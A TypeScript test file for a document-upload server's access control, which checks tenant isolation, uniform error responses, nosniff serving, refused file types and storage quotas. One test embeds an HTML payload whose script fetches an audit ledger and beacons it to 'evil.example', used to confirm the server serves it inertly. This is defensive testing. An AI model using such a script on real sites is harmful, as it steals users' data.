/**
 * Demand documents belong to the enterprise that uploaded them and to its demands: a demand cannot cite, and its
 * readers are not served, another enterprise's document; documents are served with the type their bytes show, as
 * downloads, never sniffed; a reader who is not entitled learns nothing of what is stored; each account has a quota.
 */
import { expect } from "chai";
import { createHash, randomBytes } from "node:crypto";
import { readdirSync } from "node:fs";
import { join } from "node:path";
import { keccak256, stringToBytes, type Hex } from "viem";
import { UPLOAD_QUOTA_BYTES } from "./environment";
import { as, publishDemand } from "./chain";
import { get, request, signIn } from "./siwe";
import { world } from "./hooks";

const sha256Of = (bytes: Buffer) => createHash("sha256").update(bytes).digest("hex");

describe("app server: documents belong to their uploader and their demand", function () {
  this.timeout(120_000);
  const cookies: Record<string, string> = {};
  const upload = (who: string, bytes: Buffer, claimed = sha256Of(bytes)) =>
    request("POST", "/api/documents", { cookie: cookies[who], contentType: "application/octet-stream", headers: { "x-sha256": claimed }, body: bytes });
  const storeMetadata = (who: string, json: string) => request("POST", "/api/metadata", { cookie: cookies[who], contentType: "application/json", body: json });
  const metadataOf = (documents: { name: string; sha256: string; type?: string }[], purpose = "Working capital for spring orders") => JSON.stringify({ purpose, documents });
  const storedFiles = () => readdirSync(join(world.env!.dataDir, "documents")).sort();

  // enterprise6's own document and demand, which enterprise4 tries to reach.
  const secret = Buffer.from(`%PDF-1.7\nWuhan BioSensor Technology: patent licence terms ${randomBytes(8).toString("hex")}\n`);
  let secretMetadataHash: Hex;
  let secretDemand: bigint;

  before(async () => {
    for (const name of ["enterprise4", "enterprise6", "operator", "regulator", "investor2"]) cookies[name] = await signIn(as(name));
    expect((await upload("enterprise6", secret)).status).to.equal(200);
    const stored = await storeMetadata("enterprise6", metadataOf([{ name: "licence.pdf", sha256: sha256Of(secret), type: "application/pdf" }]));
    expect(stored.status).to.equal(200);
    secretMetadataHash = (await stored.json()).metadataHash;
    secretDemand = await publishDemand("enterprise6", "Licence-backed working capital", secretMetadataHash);
  });

  it("refuses metadata citing another enterprise's document, with the same answer as for a hash stored nowhere", async () => {
    const foreign = await storeMetadata("enterprise4", metadataOf([{ name: "annex.pdf", sha256: sha256Of(secret) }]));
    const unknown = await storeMetadata("enterprise4", metadataOf([{ name: "annex.pdf", sha256: sha256Of(randomBytes(32)) }]));
    expect(foreign.status).to.equal(400);
    expect(unknown.status).to.equal(foreign.status);
    const foreignBody = await foreign.json();
    expect(foreignBody).to.deep.equal(await unknown.json());
    expect(foreignBody.error).to.match(/not one your account uploaded/);
  });

  it("does not serve another enterprise's metadata and documents through a demand that cites its metadata hash on chain", async () => {
    const copycat = await publishDemand("enterprise4", "Copied demand", secretMetadataHash);
    const list = await get(`/api/loans/${copycat}/documents`, cookies.enterprise4);
    expect(list.status).to.equal(200);
    expect((await list.json()).metadata).to.equal(null);
    const file = await get(`/api/loans/${copycat}/documents/${sha256Of(secret)}`, cookies.enterprise4);
    expect(file.status).to.equal(404);
    // The operator, who reads every demand, sees nothing of enterprise6's through it either.
    expect((await (await get(`/api/loans/${copycat}/documents`, cookies.operator)).json()).metadata).to.equal(null);
    expect((await get(`/api/loans/${copycat}/documents/${sha256Of(secret)}`, cookies.operator)).status).to.equal(404);
    // ... and still reads enterprise6's own demand.
    const own = await get(`/api/loans/${secretDemand}/documents/${sha256Of(secret)}`, cookies.operator);
    expect(own.status).to.equal(200);
    expect(Buffer.from(await own.arrayBuffer()).equals(secret)).to.equal(true);
  });

  it("answers a reader who is not entitled the same for a stored and an unknown hash", async () => {
    for (const name of ["enterprise4", "investor2"]) {
      const existing = await get(`/api/loans/${secretDemand}/documents/${sha256Of(secret)}`, cookies[name]);
      const unknown = await get(`/api/loans/${secretDemand}/documents/${sha256Of(randomBytes(32))}`, cookies[name]);
      expect(existing.status, name).to.equal(403);
      expect(unknown.status, name).to.equal(403);
      expect(await existing.text(), name).to.equal(await unknown.text());
    }
    // An entitled reader asking a demand for a document it does not cite: the same 404 whether the bytes exist elsewhere or not.
    const elsewhere = Buffer.from("%PDF-1.4 stored by enterprise4 only");
    expect((await upload("enterprise4", elsewhere)).status).to.equal(200);
    const stored = await get(`/api/loans/${secretDemand}/documents/${sha256Of(elsewhere)}`, cookies.regulator);
    const unknown = await get(`/api/loans/${secretDemand}/documents/${sha256Of(randomBytes(32))}`, cookies.regulator);
    expect(stored.status).to.equal(404);
    expect(await stored.text()).to.equal(await unknown.text());
  });

  it("serves a document with the type its bytes show, as a download, never sniffed", async () => {
    const res = await get(`/api/loans/${secretDemand}/documents/${sha256Of(secret)}`, cookies.regulator);
    expect(res.headers.get("content-type")).to.equal("application/pdf");
    expect(res.headers.get("x-content-type-options")).to.equal("nosniff");
    expect(res.headers.get("content-disposition")).to.match(/^attachment; filename="licence.pdf"/);
  });

  it("serves an HTML page uploaded as a document as plain text, whatever type the metadata claims", async () => {
    const page = Buffer.from(`<!doctype html><html><body><script>fetch("/api/ledger/audit/audit.json").then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example",t))</script></body></html>`);
    expect((await upload("enterprise4", page)).status).to.equal(200);
    const stored = await storeMetadata("enterprise4", metadataOf([{ name: "brochure.html", sha256: sha256Of(page), type: "text/html" }], "Brochure printing"));
    const demand = await publishDemand("enterprise4", "Brochure printing", (await stored.json()).metadataHash);
    const res = await get(`/api/loans/${demand}/documents/${sha256Of(page)}`, cookies.regulator);
    expect(res.status).to.equal(200);
    expect(res.headers.get("content-type")).to.equal("text/plain; charset=utf-8");
    expect(res.headers.get("x-content-type-options")).to.equal("nosniff");
    expect(res.headers.get("content-disposition")).to.match(/^attachment;/);
    expect(res.headers.get("content-security-policy")).to.match(/default-src 'none'/);
  });

  it("refuses uploads whose bytes are of no allowed type, keeping nothing", async () => {
    const before = storedFiles();
    const executable = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), randomBytes(256)]);
    const zip = Buffer.concat([Buffer.from("PK\x03\x04"), randomBytes(256)]);
    const svgWithNul = Buffer.from("<svg xmlns='http://www.w3.org/2000/svg'>\0</svg>");
    for (const bytes of [executable, zip, svgWithNul]) {
      const res = await upload("enterprise4", bytes);
      expect(res.status).to.equal(415);
      expect((await res.json()).error).to.match(/documents may be PDF/);
    }
    expect(storedFiles()).to.deep.equal(before);
  });

  it("keeps each account within its storage quota", async () => {
    const part = (n: number) => Buffer.concat([Buffer.from(`Ledger extract part ${n}\n`), Buffer.alloc(Math.floor(UPLOAD_QUOTA_BYTES / 3), "0123456789,".repeat(10))]);
    expect((await upload("enterprise6", part(1))).status).to.equal(200);
    expect((await upload("enterprise6", part(2))).status).to.equal(200);
    // The same document again takes no more room.
    expect((await upload("enterprise6", part(2))).status).to.equal(200);
    const before = storedFiles();
    const over = await upload("enterprise6", part(3));
    expect(over.status).to.equal(413);
    expect((await over.json()).error).to.match(/may keep 4\.0 MiB/);
    expect(storedFiles()).to.deep.equal(before);
    // Another account's quota is its own.
    expect((await upload("enterprise4", part(3))).status).to.equal(200);
  });

  it("keeps the metadata exactly as sent, under the hash published on chain", async () => {
    const json = metadataOf([{ name: "licence.pdf", sha256: sha256Of(secret) }], "Exact bytes 账本");
    const res = await storeMetadata("enterprise6", json);
    expect((await res.json()).metadataHash).to.equal(keccak256(stringToBytes(json)));
  });
});
